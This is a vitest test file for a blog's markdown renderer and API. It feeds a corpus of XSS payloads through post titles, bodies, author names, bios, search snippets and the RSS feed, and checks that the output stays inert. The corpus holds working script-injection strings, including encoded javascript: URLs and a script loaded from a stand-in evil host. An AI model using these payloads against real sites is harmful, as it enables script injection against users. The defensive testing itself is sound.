// XSS corpus through title, body, excerpt, name and bio: bodyHtml, snippets and feeds carry no live markup.
import { describe, expect, it } from 'vitest';
import type { PostListResponse, PostResponse } from '../../contracts/posts';
import type { AuthorPageResponse } from '../../contracts/profile';
import { renderMarkdown } from '../../worker/lib/markdown';
import { call } from './helpers';
import { createCategory, createUser, json, postInput } from './factories';

export const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<object data="javascript:alert(1)"></object>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](<java\tscript:alert(1)>)',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;avascript&#x3A;alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](%6Aavascript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://example.com/a.png)',
  '[x](https://example.com/" onmouseover="alert(1))',
  '![a](https://example.com/a.png "title\\" onerror=\\"alert(1)")',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  'www.example.com/"onmouseover="alert(1)',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '<!-- --><script>alert(1)</script>',
  '<style>@import "javascript:alert(1)";</style>',
];

const ALLOWED_TAGS = new Set([
  'p', 'a', 'img', 'em', 'strong', 'code', 'pre', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote',
  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'br', 'hr', 's', 'mark',
]);
const ALLOWED_ATTRS = new Set(['href', 'src', 'alt', 'title', 'rel', 'loading', 'decoding', 'referrerpolicy', 'class', 'start', 'style']);

/**
 * Every `<` of `html` opens a well-formed tag on the allow-list (attribute values double-quoted, with
 * quotes inside escaped), and every URL is http(s), mailto, relative or /media/.
 */
export function expectInertHtml(html: string, context: string): void {
  const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?>/y;
  for (let at = html.indexOf('<'); at !== -1; at = html.indexOf('<', at + 1)) {
    TAG.lastIndex = at;
    const m = TAG.exec(html);
    expect(m, `${context}: raw markup at ${html.slice(at, at + 60)} in ${html}`).not.toBeNull();
    const [, , tag = '', attrs = ''] = m!;
    expect(ALLOWED_TAGS.has(tag.toLowerCase()), `${context}: tag <${tag}> in ${html}`).toBe(true);
    for (const a of attrs.matchAll(/\s([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      const [, name = '', value = ''] = a;
      expect(ALLOWED_ATTRS.has(name.toLowerCase()), `${context}: attribute ${name} in ${html}`).toBe(true);
      if (name === 'href' || name === 'src') {
        const decoded = value.replace(/&amp;/g, '&').toLowerCase();
        expect(/^(https?:|mailto:|\/|#|\?|[^:]*$)/.test(decoded), `${context}: URL ${value}`).toBe(true);
      }
      if (name === 'style') expect(value, context).toMatch(/^text-align:(left|right|center)$/);
    }
  }
  expect(html, context).not.toMatch(/<script/i);
}

/** XML whose only elements are the feed's own; any user text is escaped inside them. */
function expectInertXml(xml: string, allowed: Set<string>, context: string): void {
  expect(xml, context).not.toMatch(/<script/i);
  expect(xml, context).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  for (const m of xml.matchAll(/<\/?([a-zA-Z][\w:.-]*)/g)) {
    expect(allowed.has(m[1] ?? ''), `${context}: element <${m[1]}>`).toBe(true);
  }
}

const RSS_TAGS = new Set([
  'rss', 'channel', 'title', 'link', 'description', 'language', 'lastBuildDate', 'atom:link', 'item', 'guid', 'pubDate',
  'dc:creator', 'category', 'content:encoded',
]);

describe('renderMarkdown and the XSS corpus', () => {
  it('has at least 25 payloads', () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(25);
  });

  it('the checker itself catches live markup', () => {
    for (const live of [
      '<img src=x onerror=alert(1)>',
      '<p onclick="x()">a</p>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="JAVASCRIPT:alert(1)">x</a>',
      '<img src="data:image/png;base64,xx">',
      '<script>1</script>',
      '<svg>',
      '<p>ok</p><iframe src="/x"></iframe>',
    ]) {
      expect(() => expectInertHtml(live, 'meta'), live).toThrow();
    }
    expect(() => expectInertHtml('<p>a &lt;script&gt; b <a href="/x" rel="nofollow ugc noopener">c</a></p>', 'meta')).not.toThrow();
  });

  it.each(XSS_PAYLOADS)('renders %j inert', (payload) => {
    expectInertHtml(renderMarkdown(payload), payload);
    expectInertHtml(renderMarkdown(`Before\n\n${payload}\n\nAfter *emphasis* [ok](https://example.com)`), payload);
  });

  it('keeps the safe things: http(s), mailto and relative links, /media images, tables, code', () => {
    const html = renderMarkdown(
      '[a](https://example.com) [b](mailto:me@example.com) [c](/details/x) [d](#top)\n\n' +
        '![pic](/media/0123456789abcdef0123456789abcdef.png) ![ext](https://example.com/p.jpg)\n\n' +
        '| h |\n|:-:|\n| c |\n\n```js\nconst x = "<b>";\n```',
    );
    expect(html).toContain('<a href="https://example.com" rel="nofollow ugc noopener">a</a>');
    expect(html).toContain('<a href="mailto:me@example.com" rel="nofollow ugc noopener">b</a>');
    expect(html).toContain('<a href="/details/x" rel="nofollow ugc noopener">c</a>');
    expect(html).toContain('<img src="/media/0123456789abcdef0123456789abcdef.png" alt="pic"');
    expect(html).toContain('<img src="https://example.com/p.jpg" alt="ext"');
    expect(html).toContain('<th style="text-align:center">h</th>');
    expect(html).toContain('<code class="language-js">const x = &quot;&lt;b&gt;&quot;;');
    expectInertHtml(html, 'safe sample');
  });

  it('shows a refused image as its alt text, and a refused link as text', () => {
    expect(renderMarkdown('![the alt](javascript:alert(1))')).not.toContain('<img');
    expect(renderMarkdown('![the alt](/not-media/x.png)')).toBe('<p>the alt</p>\n');
    expect(renderMarkdown('[x](javascript:alert(1))')).toBe('<p>[x](javascript:alert(1))</p>\n');
  });
});

describe('the XSS corpus through the API', () => {
  it('title, body, excerpt, name and bio come back verbatim as JSON; bodyHtml, snippets and RSS stay inert', async () => {
    const category = await createCategory({ name: '<img src=x onerror=alert(1)>' });
    const author = await createUser({ name: '<script>alert("name")</script>', bio: '<svg onload=alert(1)>' });
    const slugs: string[] = [];
    for (const [i, payload] of XSS_PAYLOADS.entries()) {
      const input = postInput(category, {
        title: `${payload.replace(/\p{Cc}/gu, ' ')} zebra${i}`.slice(0, 200),
        body: `${payload}\n\nzebra${i} ${payload}`,
        excerpt: payload.slice(0, 300),
      });
      const res = await call('/api/posts', { json: input, cookie: author.cookie, ip: author.ip });
      const { post } = await json<PostResponse>(res, 201);
      expect(post.title).toBe(input.title);
      expect(post.body).toBe(input.body);
      expect(post.excerpt).toBe(input.excerpt!.trim());
      expect(post.author.name).toBe('<script>alert("name")</script>');
      expectInertHtml(post.bodyHtml, `bodyHtml of ${payload}`);
      slugs.push(post.slug);

      const again = await json<PostResponse>(await call(`/api/posts/${post.slug}`));
      expectInertHtml(again.post.bodyHtml, `GET bodyHtml of ${payload}`);
    }
    for (const slug of slugs) expect(slug).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);

    const search = await json<PostListResponse>(await call('/api/posts?q=zebra1'));
    expect(search.items.length).toBeGreaterThan(0);
    for (const hit of search.items) {
      const html = (hit as { snippetHtml: string }).snippetHtml;
      expect(html.replace(/<\/?mark>/g, '')).not.toMatch(/[<>]/);
      expectInertHtml(html, `snippet ${html}`);
    }
    const scriptSearch = await json<PostListResponse>(await call(`/api/posts?q=${encodeURIComponent('<script>alert')}`));
    for (const hit of scriptSearch.items) expect((hit as { snippetHtml: string }).snippetHtml.replace(/<\/?mark>/g, '')).not.toMatch(/[<>]/);

    const author_ = await json<AuthorPageResponse>(await call(`/api/users/${author.username}`));
    expect(author_.user).toEqual({ username: author.username, name: author.name, bio: '<svg onload=alert(1)>', image: null });

    const rss = await call('/rss.xml');
    expect(rss.status).toBe(200);
    const xml = await rss.text();
    expectInertXml(xml, RSS_TAGS, 'rss');
    expect(xml).toContain('&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;');
    expect(xml).toContain('&lt;img src=x onerror=alert(1)&gt;');
    const items = xml.match(/<item>/g) ?? [];
    expect(items.length).toBe(20);

    const sitemap = await (await call('/sitemap.xml')).text();
    expectInertXml(sitemap, new Set(['urlset', 'url', 'loc', 'lastmod']), 'sitemap');
  });
});
